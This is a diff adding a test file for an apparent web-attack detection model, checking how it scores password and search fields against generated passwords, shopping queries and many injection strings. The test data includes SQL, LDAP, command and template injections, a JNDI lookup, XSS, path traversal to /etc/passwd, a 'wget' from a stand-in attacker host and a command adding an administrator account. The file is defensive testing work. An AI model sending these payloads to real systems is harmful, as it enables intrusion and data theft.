@@ -1,0 +1,115 @@
+import { describe, expect, it } from 'vitest';
+import { recordToRawRequest } from '../../src/eval/record-request.js';
+import { buildInspection } from '../../src/inspect/build-inspection.js';
+import { createModelGate } from '../../src/model/gate.js';
+import { loadPayloadModel } from '../../src/model/load.js';
+import { isPasswordFieldName, isSearchFieldName, isSearchProse, passwordMayCarryAttack } from '../../src/model/field-intent.js';
+import type { SignatureResult } from '../../src/signatures/types.js';
+
+// Passwords of the form-auth family that payload-v1.4 blocked (0.82-0.99), drawn as a password manager draws them.
+const GENERATED_PASSWORDS = ['G.SLE(="f)=0', "=7oSpN.T59=-L.2Lhu8=3'", 'VD"RkejBH3\'RAd0dS.pT', 'F)BC4c(9>>.g,s~i%uuinx8'];
+
+// Injections into a password field, by mechanism: SQL around a quote, comments, concatenation, keyword-less
+// tautologies, LDAP filters, commands, paths and addresses.
+const PASSWORD_ATTACKS = [
+  "' or '1'='1",
+  "1' OR 1=1#",
+  "x' and sleep(5)#",
+  "admin'--",
+  "'||'1'='1",
+  "'='",
+  "'-'",
+  "x'='x",
+  "'=0--+",
+  "A' DIV 'B",
+  "'DIV'",
+  "aa'|column!='",
+  "aa'=('aa')#(",
+  '(8362=9139)*9139',
+  '*)(&',
+  '*()|&\'',
+  '*(|(mail=*))',
+  '| sysinfo',
+  '|nid',
+  '$(id)',
+  '`id`',
+  '{{7*7}}',
+  '${jndi:ldap://x/a}',
+  '@(1+2)',
+  '<svg/onload=alert(1)>',
+  '../../etc/passwd',
+  'C:/sysprep.inf',
+  'http:0xd8.0x3a.0xd6.0xce',
+  "1'qhfy<'\">utwq",
+];
+
+describe('password fields', () => {
+  it('knows a password field by its name', () => {
+    for (const name of ['password', 'passwd', 'pwd', 'pass', 'new_password', 'user[password]', 'user.password', 'passwordConfirm', 'currentPassword', 'j_password', 'eael-pass1', 'password2', 'user_pass', 'auth[password]']) {
+      expect(isPasswordFieldName(name), name).toBe(true);
+    }
+    for (const name of ['passenger', 'passport', 'q', 'comment', 'username', 'token', 'compass', 'bypass_cache']) {
+      expect(isPasswordFieldName(name), name).toBe(false);
+    }
+  });
+
+  it('takes a generated password for noise and every injection shape for a possible attack', () => {
+    for (const p of GENERATED_PASSWORDS) expect(passwordMayCarryAttack(p), p).toBe(false);
+    for (const a of PASSWORD_ATTACKS) expect(passwordMayCarryAttack(a), a).toBe(true);
+  });
+});
+
+describe('search fields', () => {
+  it('knows a search field by its name', () => {
+    for (const name of ['q', 's', 'search', 'query', 'term', 'keywords', 'search_term', 'ep.search_term', 'searchQuery', 'filter[search]']) {
+      expect(isSearchFieldName(name), name).toBe(true);
+    }
+    for (const name of ['p', 'id', 'cat', 'page', 'comment', 'cmd', 'sort', 's:Body/p:command', 'search_mode', 'query_id']) expect(isSearchFieldName(name), name).toBe(false);
+  });
+
+  it('takes words and spaces on one line for prose, and any injection syntax for more', () => {
+    for (const t of ['echo dot', 'echo+box', 'table for 2 or 3', 'union select mattress', 'WAITFOR DELAY syntax sql server', 'sleep 5 mattress']) {
+      expect(isSearchProse(t), t).toBe(true);
+    }
+    for (const t of ["1' union select 1", '1 or 1=1', 'x;cat /etc/passwd', 'a|id', 'echo $(id)', '1 union select 1--', 'foo\nid', 'sleep(5)', '<script>']) {
+      expect(isSearchProse(t), t).toBe(false);
+    }
+  });
+
+  it('takes words for more than a search term when they open with a literal, a SQL clause on a literal, name a file or make a command line', () => {
+    // The shared corpora's fragments sent as q= (payload-corpus.ts), which a search field must still score.
+    for (const t of ['-52 union select', '14968 order by 5', '17,23 order by 16', ' ORDER BY 3 ', ' or true', '1 AND 1 SOUNDS LIKE 1', '1DUNION SELECT 2', 'AND 1', 'AND true', 'select 1 from foo where', 'select @@version', 'SELECT 0x7461626c655f6e616d65 FROM all_tab_tables', '/bin/ls -al', 'uname -a', 'wget https://evil.example/x.sh', 'which perl', 'net localgroup Administrators hacker /ADD', 'dbase.php a', 'sleep 5', 'whoami']) {
+      expect(isSearchProse(t), t).toBe(false);
+    }
+    for (const t of ['echo dot 5th gen', 'ls 430 lawn mower', 'sleep mask', 'cat toys', 'which wine glass', 'union select mattress']) expect(isSearchProse(t), t).toBe(true);
+  });
+});
+
+const model = await loadPayloadModel('models/payload-v1');
+const noHits: SignatureResult = { hits: [], candidates: 0 };
+
+/** The shipped model's highest score on a request, as the gate picks the forms it scores. */
+async function score(method: string, path: string, query: string, body?: string, contentType?: string): Promise<number> {
+  const headers: Record<string, string> = { Host: 'www.example-shop.com', 'User-Agent': 'Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0' };
+  if (contentType !== undefined) headers['Content-Type'] = contentType;
+  const inspection = buildInspection(recordToRawRequest({ id: 't', source: 'test', label: 'benign', category: 'test', method, path, query, headers, body }));
+  return (await createModelGate(model).evaluate(inspection, noHits)).maxScore;
+}
+
+const login = (password: string) => score('POST', '/login', '', `username=sam&password=${encodeURIComponent(password)}`, 'application/x-www-form-urlencoded');
+
+describe('the shipped model behind the field intents', () => {
+  it('leaves a generated password alone and still scores a login injection as an attack', async () => {
+    for (const p of GENERATED_PASSWORDS) expect(await login(p), p).toBeLessThan(model.threshold);
+    for (const a of ["' or '1'='1' -- ", "admin' OR 1=1#", "x' and sleep(5)#", "'||'1'='1"]) expect(await login(a), a).toBeGreaterThanOrEqual(model.threshold);
+  });
+
+  it('leaves search words alone and still scores a search that breaks out', async () => {
+    for (const q of ['echo+box', 'table+for+2+or+3', 'echo+vs+admin']) expect(await score('GET', '/search', `q=${q}`), q).toBeLessThan(model.threshold);
+    // The same words in a search parameter of a page URL (an analytics beacon's `dl`).
+    expect(await score('GET', '/g/collect', `v=2&dl=${encodeURIComponent('https://shop.example/catalogsearch/result/?term=echo+sheet')}`)).toBeLessThan(model.threshold);
+    for (const q of ["x'+union+select+password+from+users--", 'echo+box%3Bcat+%2Fetc%2Fpasswd', "1'+or+'1'%3D'1"]) {
+      expect(await score('GET', '/search', `q=${q}`), q).toBeGreaterThanOrEqual(model.threshold);
+    }
+  });
+});
